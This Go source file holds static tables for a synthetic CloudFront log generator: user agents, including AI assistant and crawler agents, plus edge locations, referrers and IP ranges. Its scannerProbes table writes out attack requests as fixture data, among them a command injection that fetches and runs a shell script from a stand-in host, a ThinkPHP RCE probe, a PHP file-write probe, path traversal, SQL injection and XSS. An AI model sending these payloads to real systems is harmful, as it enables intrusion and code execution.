package loggen

// Static tables: user agents, edge locations, referrers, content types,
// paths. Everything here is raw (as a client would send it); the writer
// escapes it the way CloudFront does.

// client classes
const (
	clBrowser = iota
	clAI
	clCrawler
	clTool
	clScanner
	numClasses
)

var classNames = [numClasses]string{"browser", "ai_assistant", "crawler", "tool", "scanner"}

// behaviours of non-browser agents
const (
	bhNone = iota
	bhGooglebot
	bhBingbot
	bhAICrawler // GPTBot, ClaudeBot, OAI-SearchBot, PerplexityBot
	bhSEO       // AhrefsBot, YandexBot, Applebot
	bhPreview   // facebookexternalhit, Slackbot
	bhCurl
	bhPython
	bhGoClient
	bhWget
	bhUptime
	bhScanner
	bhDeepResearch // Gemini-Deep-Research: many pages per visit
)

type agentDef struct {
	ua     string
	weight float64
	mobile bool
	h3     bool // may speak HTTP/3
	behav  int
	ai     int // index into aiNames, -1 when not an AI assistant
}

// The AI assistants, in Truth order. aiTracked marks those of the default
// allowlist of Matomo's CloudFront importer; aiMatomoName is the name Matomo
// stores (Google-GeminiNotebook is stored as Google-NotebookLM).
var (
	aiNames      = [...]string{"ChatGPT-User", "Claude-User", "Perplexity-User", "MistralAI-User", "Gemini-Deep-Research", "Google-NotebookLM", "DuckAssistBot", "Google-GeminiNotebook"}
	aiTracked    = [...]bool{true, true, true, true, true, true, false, true}
	aiMatomoName = [...]string{"ChatGPT-User", "Claude-User", "Perplexity-User", "MistralAI-User", "Gemini-Deep-Research", "Google-NotebookLM", "DuckAssistBot", "Google-NotebookLM"}
)

var browserAgents = []agentDef{
	{ua: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/154.0.0.0 Safari/537.36", weight: 22, h3: true},
	{ua: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/153.0.0.0 Safari/537.36", weight: 6, h3: true},
	{ua: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/154.0.0.0 Safari/537.36", weight: 8, h3: true},
	{ua: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/154.0.0.0 Safari/537.36", weight: 2, h3: true},
	{ua: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Safari/605.1.15", weight: 7, h3: true},
	{ua: "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1", weight: 15, mobile: true, h3: true},
	{ua: "Mozilla/5.0 (iPad; CPU OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1", weight: 2, mobile: true, h3: true},
	{ua: "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/154.0.0.0 Mobile Safari/537.36", weight: 14, mobile: true, h3: true},
	{ua: "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/29.0 Chrome/148.0.0.0 Mobile Safari/537.36", weight: 2, mobile: true, h3: true},
	{ua: "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:150.0) Gecko/20100101 Firefox/150.0", weight: 5, h3: true},
	{ua: "Mozilla/5.0 (X11; Linux x86_64; rv:150.0) Gecko/20100101 Firefox/150.0", weight: 1, h3: true},
	{ua: "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0", weight: 0.7},
	{ua: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/154.0.0.0 Safari/537.36 Edg/154.0.0.0", weight: 7, h3: true},
	{ua: "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/22H20 [FBAN/FBIOS;FBAV/540.0.0.38.106;FBBV/823456789;FBDV/iPhone17,3;FBMD/iPhone;FBSN/iOS;FBSV/18.7;FBSS/3;FBCR/;FBID/phone;FBLC/fr_FR;FBOP/5]", weight: 1, mobile: true},
	{ua: "Mozilla/5.0 (Linux; Android 15; SM-A556B Build/AP3A.240905.015.A2; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/153.0.7727.111 Mobile Safari/537.36 Instagram 410.0.0.53.71 Android (35/15; 450dpi; 1080x2340; samsung; SM-A556B; a55x; s5e8845; de_DE; 846512345)", weight: 0.8, mobile: true},
	{ua: "Mozilla/5.0 (Linux; Android 14; Téléphone Pro 5G) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/152.0.0.0 Mobile Safari/537.36", weight: 0.3, mobile: true},
}

var aiAgents = []agentDef{
	{ua: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; +https://openai.com/bot", weight: 34, ai: 0},
	{ua: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/2.0; +https://openai.com/bot", weight: 8, ai: 0},
	{ua: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Claude-User/1.0; +Claude-User@anthropic.com)", weight: 12, ai: 1},
	{ua: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Perplexity-User/1.0; +https://perplexity.ai/perplexity-user)", weight: 14, ai: 2},
	{ua: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; MistralAI-User/1.0; +https://docs.mistral.ai/robots)", weight: 6, ai: 3},
	{ua: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Gemini-Deep-Research; +https://gemini.google/overview/deep-research/) Chrome/135.0.0.0 Safari/537.36", weight: 3, ai: 4, behav: bhDeepResearch},
	{ua: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Google-NotebookLM; +https://notebooklm.google/) Chrome/135.0.0.0 Safari/537.36", weight: 4, ai: 5},
	{ua: "DuckAssistBot/1.2; (+http://duckduckgo.com/duckassistbot.html)", weight: 7, ai: 6},
	{ua: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/137.0.0.0 Safari/537.36 (compatible; Google-GeminiNotebook; +https://developers.google.com/crawling/docs/crawlers-fetchers/google-gemininotebook)", weight: 2, ai: 7},
	{ua: "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Mobile Safari/537.36 (compatible; Google-GeminiNotebook; +https://developers.google.com/crawling/docs/crawlers-fetchers/google-gemininotebook)", weight: 1, ai: 7},
}

var crawlerAgents = []agentDef{
	{ua: "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/154.0.7727.55 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", weight: 22, behav: bhGooglebot},
	{ua: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/154.0.7727.55 Safari/537.36", weight: 8, behav: bhGooglebot},
	{ua: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36", weight: 14, behav: bhBingbot},
	{ua: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.3; +https://openai.com/gptbot)", weight: 9, behav: bhAICrawler},
	{ua: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; OAI-SearchBot/1.3; +https://openai.com/searchbot", weight: 4, behav: bhAICrawler},
	{ua: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)", weight: 8, behav: bhAICrawler},
	{ua: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; +https://perplexity.ai/perplexitybot)", weight: 3, behav: bhAICrawler},
	{ua: "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", weight: 9, behav: bhSEO},
	{ua: "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", weight: 3, behav: bhSEO},
	{ua: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)", weight: 3, behav: bhSEO},
	{ua: "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", weight: 10, behav: bhPreview},
	{ua: "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", weight: 6, behav: bhPreview},
}

var toolAgents = []agentDef{
	{ua: "curl/8.5.0", weight: 8, behav: bhCurl},
	{ua: "curl/7.81.0", weight: 3, behav: bhCurl},
	{ua: "python-requests/2.32.3", weight: 8, behav: bhPython},
	{ua: "Go-http-client/2.0", weight: 4, behav: bhGoClient},
	{ua: "Wget/1.21.4", weight: 2, behav: bhWget},
	{ua: "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", weight: 10, behav: bhUptime},
	{ua: "", weight: 3, behav: bhCurl},
}

var scannerAgents = []agentDef{
	{ua: "", weight: 10, behav: bhScanner},
	{ua: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36", weight: 4, behav: bhScanner},
	{ua: "Mozilla/5.0 zgrab/0.x", weight: 2, behav: bhScanner},
	{ua: "Mozilla/5.0 (l9scan/2.0.; +https://leakix.net)", weight: 1, behav: bhScanner},
}

// Edge locations with weights (Europe and North America heavy).
var edges = []struct {
	pop string
	w   float64
}{
	{"FRA56-P3", 6}, {"FRA60-P1", 4}, {"FRA2-C1", 2}, {"AMS58-P2", 4}, {"AMS1-C1", 2}, {"CDG52-P4", 5},
	{"CDG55-P1", 2}, {"LHR61-P6", 5}, {"LHR50-C1", 3}, {"MAN51-C2", 1}, {"DUB56-P1", 2}, {"ARN54-C1", 1},
	{"MXP63-P2", 2}, {"MAD53-P2", 2}, {"WAW51-P2", 1}, {"ZRH55-P2", 1}, {"VIE50-C1", 1}, {"IAD89-C3", 7},
	{"IAD12-P1", 3}, {"JFK50-C1", 3}, {"EWR53-C2", 2}, {"ORD58-P4", 3}, {"ATL59-C1", 2}, {"DFW57-P5", 2},
	{"SFO53-P7", 4}, {"LAX50-C1", 2}, {"SEA19-C3", 2}, {"YUL62-C1", 1}, {"YTO50-C2", 1}, {"GRU3-C1", 2},
	{"MEX55-P1", 1}, {"NRT57-P2", 2}, {"HND1-C1", 1}, {"ICN57-P1", 1}, {"SIN2-P5", 2}, {"HKG62-P1", 1},
	{"BOM78-P1", 2}, {"DEL54-C2", 1}, {"SYD62-P1", 1}, {"MEL50-C2", 1}, {"JNB50-C1", 1}, {"HIO50-C2", 1},
}

// TLS versions and ciphers.
var tlsCombos = []struct{ proto, cipher string }{
	{"TLSv1.3", "TLS_AES_128_GCM_SHA256"},
	{"TLSv1.3", "TLS_AES_256_GCM_SHA384"},
	{"TLSv1.3", "TLS_CHACHA20_POLY1305_SHA256"},
	{"TLSv1.2", "ECDHE-RSA-AES128-GCM-SHA256"},
	{"TLSv1.2", "ECDHE-RSA-AES256-GCM-SHA384"},
	{"TLSv1.2", "ECDHE-RSA-CHACHA20-POLY1305"},
}

// Referrer kinds.
const (
	refDirect = iota
	refSearch
	refSocial
	refAI
	refOther
	refEmail
	numRefKinds
)

var refKindWeights = [numRefKinds]float64{30, 36, 14, 4, 12, 4}

var searchRefs = []struct {
	url string
	w   float64
}{
	{"https://www.google.com/", 58}, {"https://www.google.de/", 6}, {"https://www.google.co.uk/", 4},
	{"https://www.google.fr/", 4}, {"https://www.bing.com/", 9}, {"https://duckduckgo.com/", 6},
	{"https://search.brave.com/", 2}, {"https://www.ecosia.org/", 2}, {"https://yandex.ru/", 1},
	{"https://search.yahoo.com/", 1}, {"https://www.qwant.com/", 1}, {"https://www.startpage.com/", 1},
	{"android-app://com.google.android.googlequicksearchbox/", 3},
}

var socialRefs = []string{
	"https://t.co/", "https://l.facebook.com/", "https://m.facebook.com/", "https://lm.facebook.com/",
	"https://www.linkedin.com/", "https://www.reddit.com/", "https://old.reddit.com/r/golang/comments/1o2x3y4/cloudfront_logs_to_matomo_without_javascript/",
	"https://news.ycombinator.com/", "https://bsky.app/", "https://mastodon.social/", "https://www.youtube.com/",
	"https://l.instagram.com/", "android-app://com.slack/", "https://www.threads.com/",
}

var aiRefs = []string{
	"https://chatgpt.com/", "https://chatgpt.com/", "https://chatgpt.com/", "https://www.perplexity.ai/",
	"https://gemini.google.com/", "https://claude.ai/", "https://copilot.microsoft.com/", "https://chat.mistral.ai/",
}

var otherRefs = []string{
	"https://github.com/trackless/trackless",
	"https://github.com/trackless/trackless/issues/42",
	"https://stackoverflow.com/questions/79012345/how-to-import-cloudfront-logs-into-matomo",
	"https://en.wikipedia.org/wiki/Caf%C3%A9",
	"https://de.wikipedia.org/wiki/Stra%C3%9Fe",
	"https://golangweekly.com/issues/602",
	"https://www.heise.de/news/Neue-Version-%E2%80%93-Analytics-ohne-Cookies-10123456.html",
	"https://www.example.net/blog/2026/10/links-of-the-week?ref=a%20b",
	"https://forum.example.org/t/cdn-logs/1234/7",
	"https://www.producthunt.com/",
	"https://medium.com/@someone/server-side-analytics-with-cloudfront-4f2a9c1b7d3e",
	"https://jp.example.org/%E8%A8%98%E4%BA%8B/42",
}

var emailRefs = []string{
	"https://mail.google.com/", "https://outlook.live.com/", "https://outlook.office.com/", "android-app://com.google.android.gm/",
}

// Content types (raw). Index 0 means "-".
const (
	ctNone = iota
	ctHTML
	ctCSS
	ctJS
	ctJSON
	ctPNG
	ctJPEG
	ctWebP
	ctAVIF
	ctSVG
	ctICO
	ctWOFF2
	ctManifest
	ctXML
	ctRSS
	ctText
	ctPDF
	ctZip
	ctGzip
	ctCSV
	ctMP4
	ctMP3
	ctWebM
	ctExe
	ctMSI
	ctDMG
	ctDocx
	ctXlsx
	ctPptx
	ctAPK
	ctEpub
	ctSig
	ct7z
	ctOctet
	ctHTMLShort
	numCT
)

var contentTypes = [numCT]string{
	ctNone:      "",
	ctHTML:      "text/html; charset=utf-8",
	ctCSS:       "text/css",
	ctJS:        "application/javascript",
	ctJSON:      "application/json",
	ctPNG:       "image/png",
	ctJPEG:      "image/jpeg",
	ctWebP:      "image/webp",
	ctAVIF:      "image/avif",
	ctSVG:       "image/svg+xml",
	ctICO:       "image/x-icon",
	ctWOFF2:     "font/woff2",
	ctManifest:  "application/manifest+json",
	ctXML:       "application/xml; charset=utf-8",
	ctRSS:       "application/rss+xml; charset=utf-8",
	ctText:      "text/plain; charset=utf-8",
	ctPDF:       "application/pdf",
	ctZip:       "application/zip",
	ctGzip:      "application/gzip",
	ctCSV:       "text/csv; charset=utf-8",
	ctMP4:       "video/mp4",
	ctMP3:       "audio/mpeg",
	ctWebM:      "video/webm",
	ctExe:       "application/x-msdownload",
	ctMSI:       "application/x-msi",
	ctDMG:       "application/x-apple-diskimage",
	ctDocx:      "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
	ctXlsx:      "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
	ctPptx:      "application/vnd.openxmlformats-officedocument.presentationml.presentation",
	ctAPK:       "application/vnd.android.package-archive",
	ctEpub:      "application/epub+zip",
	ctSig:       "application/pgp-signature",
	ct7z:        "application/x-7z-compressed",
	ctOctet:     "application/octet-stream",
	ctHTMLShort: "text/html",
}

// Words for slugs, search terms and campaign names.
var slugWords = []string{
	"getting-started", "release-notes", "pricing", "faq", "privacy", "analytics", "cloudfront", "logs",
	"matomo", "edge", "lambda", "s3", "caching", "performance", "security", "go", "tutorial", "migration",
	"benchmark", "dashboard", "api", "webhooks", "sso", "teams", "changelog", "roadmap", "case-study",
	"comparison", "checklist", "guide", "tips", "announcing", "deep-dive", "postmortem", "accessibility",
	"seo", "gdpr", "cookies", "consent", "ai-assistants", "bots", "crawlers", "cdn", "latency", "dns",
}

var docSections = []string{"install", "config", "api", "guides", "reference", "faq", "integrations", "admin"}

// Pages whose stems carry characters the browser percent-encodes, or that
// CloudFront encodes (~ ' %), in the raw form the browser sends.
var specialPages = []string{
	"/blog/caf%C3%A9-guide/",
	"/blog/stra%C3%9Fe-und-caf%C3%A9/",
	"/blog/%E6%97%A5%E6%9C%AC%E8%AA%9E%E3%82%AC%E3%82%A4%E3%83%89/",
	"/docs/getting%20started.html",
	"/wiki/C%2B%2B",
	"/blog/o'reilly-interview/",
	"/~alice/notes.html",
	"/blog/50%25-off-black-friday/",
	"/products/t-shirt-(red)",
	"/blog/na%C3%AFve-caching-considered-harmful/",
	"/Docs/Index.HTM",
	"/index.php",
	"/blog/feed/",
}

var topPages = []string{
	"/", "/about/", "/pricing/", "/contact/", "/blog/", "/docs/", "/features/", "/login", "/signup",
	"/careers/", "/legal/privacy/", "/legal/imprint/", "/customers/", "/changelog/", "/status/",
}

var searchTerms = []string{
	"cloudfront+logs", "matomo%20import", "caf%C3%A9", "a%20b", "%E6%97%A5%E6%9C%AC%E8%AA%9E",
	"%22exact+phrase%22", "c%2B%2B", "stra%C3%9Fe", "privacy+policy", "pricing", "api+key", "gdpr",
	"ai+bots", "how+to+export+csv", "50%25+discount", "l%27%C3%A9t%C3%A9", "docs", "sso",
}

// Paths vulnerability scanners probe, with a raw query or "".
var scannerProbes = []struct{ stem, query string }{
	{"/wp-login.php", ""}, {"/wp-admin/", ""}, {"/xmlrpc.php", ""}, {"/.env", ""}, {"/.git/config", ""},
	{"/admin/config.php", ""}, {"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", ""},
	{"/.aws/credentials", ""}, {"/phpmyadmin/index.php", ""}, {"/wp-content/plugins/wp-file-manager/readme.txt", ""},
	{"/cgi-bin/luci/;stok=/locale", "form=country&operation=write&country=$(id%3E%60wget+-O-+http://198.51.100.66/x.sh%7Csh%60)"},
	{"/boaform/admin/formLogin", ""}, {"/.DS_Store", ""}, {"/server-status", ""}, {"/actuator/health", ""},
	{"/config.json", ""}, {"/backup.zip", ""}, {"/db.sql", ""}, {"/wp-config.php.bak", ""}, {"/.well-known/security.txt", ""},
	{"/index.php", "s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello"},
	{"/index.php", "lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?echo(md5(\"hi\"));?>+/tmp/index1.php"},
	{"/..%2f..%2f..%2fetc/passwd", ""}, {"/api/v1/users", "id=1%27%20OR%20%271%27=%271"},
	{"/search", "q=<script>alert(1)</script>"}, {"/.git/HEAD", ""}, {"/owa/auth/logon.aspx", ""},
	{"/solr/admin/info/system", "wt=json"}, {"/console/", ""}, {"/_ignition/health-check", ""},
}

// IPv4 first octets of plausible eyeball networks (besides the documentation ranges).
var v4Octets = []int{24, 47, 50, 62, 67, 71, 73, 76, 77, 78, 79, 80, 81, 82, 83, 84, 85, 86, 87, 88, 89, 90, 91,
	92, 93, 94, 95, 98, 99, 108, 109, 151, 176, 178, 185, 188, 193, 194, 212, 213, 217}

// IPv6 prefixes of plausible eyeball networks (besides 2001:db8::/32).
var v6Prefixes = []string{"2a01:cb1d:", "2003:e5:", "2600:1700:", "2a02:c7c:", "2409:40c0:", "2a00:23c6:", "2607:fb90:", "2a02:8109:"}

// Source networks of crawlers, tools and AI assistants by user-agent token
// (plausible, not authoritative). An entry ending in '.' is an IPv4 /24, one
// ending in ':' an IPv6 prefix completed with random groups.
var agentNets = []struct {
	token string
	nets  []string
}{
	{"Googlebot", []string{"66.249.66.", "66.249.68.", "66.249.70.", "66.249.79.", "2001:4860:4801:10:"}},
	{"bingbot", []string{"40.77.167.", "157.55.39.", "207.46.13.", "52.167.144."}},
	{"GPTBot", []string{"20.171.207.", "4.227.36."}},
	{"OAI-SearchBot", []string{"20.42.10.", "104.210.140."}},
	{"ClaudeBot", []string{"216.73.216."}},
	{"PerplexityBot", []string{"44.221.181.", "3.224.220."}},
	{"AhrefsBot", []string{"54.36.148.", "5.39.1.", "51.222.253."}},
	{"YandexBot", []string{"5.255.231.", "213.180.203."}},
	{"Applebot", []string{"17.241.219.", "17.241.75."}},
	{"facebookexternalhit", []string{"69.171.249.", "173.252.107.", "2a03:2880:f800:"}},
	{"Slackbot", []string{"3.89.77.", "54.174.42."}},
	{"ChatGPT-User", []string{"23.98.142.", "40.84.180.", "13.65.138.", "52.225.75."}},
	{"Claude-User", []string{"160.79.104.", "2607:6bc0::"}},
	{"Perplexity-User", []string{"107.20.236.", "44.208.221."}},
	{"MistralAI-User", []string{"51.159.100.", "163.172.210."}},
	{"Gemini-Deep-Research", []string{"66.249.93.", "2001:4860:4801:66:"}},
	{"Google-NotebookLM", []string{"66.249.84.", "2001:4860:4801:53:"}},
	{"Google-GeminiNotebook", []string{"66.249.85.", "2001:4860:4801:54:"}},
	{"DuckAssistBot", []string{"20.191.45.", "40.88.21."}},
	{"UptimeRobot", []string{"69.162.124.", "216.144.248.", "2607:ff68:107::"}},
}
